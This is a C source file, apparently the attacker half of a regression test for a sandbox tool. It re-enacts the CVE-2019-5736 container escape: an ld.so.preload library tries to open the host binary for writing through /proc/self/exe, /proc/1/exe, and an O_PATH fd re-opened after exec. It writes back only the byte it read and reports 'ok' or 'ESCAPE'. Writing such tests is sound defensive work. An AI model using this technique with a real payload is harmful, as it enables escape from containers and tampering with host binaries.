// CVE-2019-5736 regression, the attacker's half: a shared library the test
// puts in a hostile rootfs's /etc/ld.so.preload. When the sandbox's command is
// /proc/self/exe (or /proc/1/exe), the kernel runs sbx's own host binary inside
// the sandbox, and the sandbox's ld.so loads this library into it. The
// constructor then tries what the runc exploit did: open the binary for
// writing directly, and through an O_PATH fd re-opened via /proc/self/fd
// after the process has exec'd away (so that ETXTBSY no longer protects it).
// It never changes a byte: it writes back the byte it read (harmless, yet a
// successful write proves the attack). Lines as probe.c: "ok"/"ESCAPE"/"info".
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void try_write(const char* what, const char* path) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) {
    printf("ok      %s: %s\n", what, strerrorname_np(errno));
    return;
  }
  // Same byte back: proves write access without changing the file.
  int rfd = open(path, O_RDONLY);
  unsigned char b = 0x7f;
  if (rfd >= 0) {
    if (pread(rfd, &b, 1, 0) != 1) b = 0x7f;
    close(rfd);
  }
  if (pwrite(fd, &b, 1, 0) == 1)
    printf("ESCAPE  %s: opened for writing and wrote\n", what);
  else
    printf("ESCAPE  %s: opened for writing (write: %s)\n", what, strerrorname_np(errno));
  close(fd);
}

__attribute__((constructor)) static void attack(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  char exe[512];
  ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
  exe[n > 0 ? n : 0] = 0;
  printf("info    exe-preload: loaded into %s (pid %d)\n", exe, getpid());
  try_write("open /proc/self/exe for writing", "/proc/self/exe");
  try_write("open /proc/1/exe for writing", "/proc/1/exe");
  int pathfd = open("/proc/self/exe", O_PATH);
  if (pathfd < 0) {
    printf("ok      O_PATH /proc/self/exe: %s\n", strerrorname_np(errno));
    return;
  }
  pid_t child = fork();
  if (child == 0) {
    // Wait for the parent to exec away, then re-open the binary for writing.
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", pathfd);
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    int last = 0;
    for (;;) {
      int fd = open(p, O_WRONLY);
      if (fd >= 0) {
        close(fd);
        try_write("re-open sbx binary via O_PATH fd after exec", p);
        _exit(0);
      }
      last = errno;
      clock_gettime(CLOCK_MONOTONIC, &t);
      if ((t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000 > 1500) break;
      usleep(1000);
    }
    printf("ok      re-open sbx binary via O_PATH fd after exec: %s\n", strerrorname_np(last));
    printf("done    exe-preload child\n");
    _exit(0);
  }
  // The parent becomes something else, releasing its mapping of the binary.
  char* argv[] = {"sleep", "3", NULL};
  execv("/bin/sleep", argv);
  printf("info    exe-preload: exec /bin/sleep: %s\n", strerrorname_np(errno));
  waitpid(child, NULL, 0);
  _exit(0);
}
